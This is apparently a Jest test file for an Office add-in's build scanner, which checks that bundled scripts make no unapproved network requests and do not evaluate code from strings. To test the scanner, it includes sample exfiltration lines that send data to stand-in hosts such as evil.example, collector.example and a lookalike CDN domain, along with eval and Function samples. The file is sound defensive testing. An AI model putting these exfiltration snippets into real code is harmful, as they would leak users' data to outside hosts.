/**
 * The built add-in (dist/, which `npm test` builds before jest) makes no network request except
 * loading office.js from Microsoft's CDN, and runs no code built from strings: every script and
 * page is scanned. The scanner is proven on synthetic code and on a real bundle with one call
 * added, so a bundle that gains a fetch or an eval fails here.
 */
import { existsSync, readdirSync, readFileSync, statSync } from "node:fs";
import * as path from "node:path";
import {
  CODE_RULES,
  describeFindings,
  OFFICE_CDN,
  scanCode,
  scanScript,
  scanUrls,
  URL_ALLOWLIST,
} from "./scan";

const ROOT = path.resolve(__dirname, "../..");
const DIST = path.join(ROOT, "dist");
const DEV_URL = "https://localhost:3000/";

/** Not shipped as the add-in's code, with the reason. */
const SKIPPED: readonly { test: (rel: string) => boolean; reason: string }[] = [
  {
    test: (rel) => rel.startsWith("office-js/"),
    reason: "Microsoft's office.js, as on the CDN; loaded from the CDN in production",
  },
  { test: (rel) => rel.endsWith(".map"), reason: "source maps: read by debuggers, never run" },
  { test: (rel) => rel.endsWith(".LICENSE.txt"), reason: "licence texts, never run" },
  { test: (rel) => /\.(png|ico|svg)$/.test(rel), reason: "icons" },
];

function distFiles(): string[] {
  const out: string[] = [];
  const walk = (dir: string) => {
    for (const name of readdirSync(dir)) {
      const full = path.join(dir, name);
      if (statSync(full).isDirectory()) walk(full);
      else out.push(path.relative(DIST, full).split(path.sep).join("/"));
    }
  };
  walk(DIST);
  return out.sort();
}

describe("dist/ exists (npm test builds it before jest)", () => {
  it("holds the built add-in", () => {
    if (!existsSync(path.join(DIST, "taskpane.html"))) {
      throw new Error(`${DIST} has no build: run \`npm run build\` (npm test does) before jest.`);
    }
    expect(existsSync(path.join(DIST, "functions.js"))).toBe(true);
    expect(existsSync(path.join(DIST, "taskpane.js"))).toBe(true);
  });
});

const built = existsSync(path.join(DIST, "taskpane.html"));
const files = built ? distFiles() : [];
const scanned = files.filter((f) => !SKIPPED.some((s) => s.test(f)));
const scripts = scanned.filter((f) => f.endsWith(".js"));
const pages = scanned.filter((f) => f.endsWith(".html"));
const data = scanned.filter((f) => /\.(json|xml|css|txt)$/.test(f));

describe("the scanner", () => {
  it("finds every forbidden call in synthetic code", () => {
    const samples: Record<string, string> = {
      fetch: 'fetch("/api").then(r => r.json())',
      XMLHttpRequest: "var x = new XMLHttpRequest(); x.open('POST', u)",
      WebSocket: "new WebSocket(u)",
      sendBeacon: "navigator.sendBeacon(u, data)",
      EventSource: "new EventSource(u)",
      importScripts: "importScripts('x.js')",
      eval: "eval(code); (0, eval)(code)",
      "Function constructor": 'new Function("return this")(); Function("a", "b")',
      "string timer": 'setTimeout("alert(1)", 10)',
    };
    for (const rule of CODE_RULES) {
      const found = scanCode(samples[rule.rule], "sample.js").map((f) => f.rule);
      expect([rule.rule, found]).toEqual([rule.rule, expect.arrayContaining([rule.rule])]);
    }
  });

  it("does not cry wolf: lookalike words, feature checks, allowlisted URLs", () => {
    const clean = [
      'link.fetchPriority = "high"; a.prefetch = 1; evaluate(x); isFunction(f)',
      "if (!self.importScripts) {} typeof x === 'function'",
      `var ns = "http://www.w3.org/2000/svg"; var u = "${OFFICE_CDN}/lib/1/hosted/office.js";`,
      'err = "https://react.dev/errors/" + code;',
    ].join("\n");
    expect(scanScript(clean, "clean.js")).toEqual([]);
  });

  it("flags remote URLs that are not on the allowlist", () => {
    const found = scanUrls(
      'img.src = "https://evil.example/collect?d=" + data; var w = "wss://x.example/s";' +
        ' var cdnLookalike = "https://appsforoffice.microsoft.com.evil.example/office.js";',
      "x.js"
    );
    expect(found.map((f) => f.match)).toEqual([
      "https://evil.example/collect?d=",
      "wss://x.example/s",
      "https://appsforoffice.microsoft.com.evil.example/office.js",
    ]);
  });

  it("gives every allowlisted URL a reason", () => {
    for (const entry of URL_ALLOWLIST) expect(entry.reason.length).toBeGreaterThan(20);
  });

  (built ? it : it.skip)("catches a network call or an eval added to a real bundle", () => {
    const bundle = readFileSync(path.join(DIST, "functions.js"), "utf8");
    const before = scanScript(bundle, "functions.js").length;
    const tampered = [
      `${bundle};fetch("https://collector.example/k",{method:"POST",body:JSON.stringify(d)})`,
      `${bundle};navigator.sendBeacon("/k",d)`,
      `${bundle};(0,eval)("1+1")`,
      `${bundle};new Function("return this")()`,
    ];
    for (const text of tampered) {
      expect(scanScript(text, "functions.js").length).toBeGreaterThan(before);
    }
  });
});

const describeBuilt = built ? describe : describe.skip;

describeBuilt("dist: scripts", () => {
  it("has scripts to scan (functions, taskpane)", () => {
    expect(scripts).toEqual(expect.arrayContaining(["functions.js", "taskpane.js"]));
  });

  it.each(scripts)("%s: no network call, no code from strings, no remote URL", (file) => {
    const findings = scanScript(readFileSync(path.join(DIST, file), "utf8"), file);
    if (findings.length > 0) throw new Error(describeFindings(findings));
  });
});

describeBuilt("dist: pages and data", () => {
  it.each(pages)("%s: scripts only from the add-in or the Office CDN, no remote URL", (file) => {
    const html = readFileSync(path.join(DIST, file), "utf8");
    const findings = [...scanUrls(html, file), ...scanCode(html.replace(/<meta[^>]*>/g, ""), file)];
    if (findings.length > 0) throw new Error(describeFindings(findings));
    for (const m of html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)) {
      const src = /\bsrc=["']?([^"'\s>]+)/.exec(m[1])?.[1];
      // No inline script (the CSP would refuse it); a source on the add-in's host or the CDN.
      expect(m[2].trim()).toBe("");
      expect(src).toBeDefined();
      expect(!/^[a-z]+:|^\/\//i.test(src!) || src === `${OFFICE_CDN}/lib/1/hosted/office.js`).toBe(
        true
      );
    }
  });

  it.each(data)("%s: URLs only on the add-in's own host or the allowlist", (file) => {
    const own = [process.env.KKB_BASE_URL ?? DEV_URL].map((u) => (u.endsWith("/") ? u : u + "/"));
    const findings = scanUrls(readFileSync(path.join(DIST, file), "utf8"), file, own);
    if (findings.length > 0) throw new Error(describeFindings(findings));
  });
});
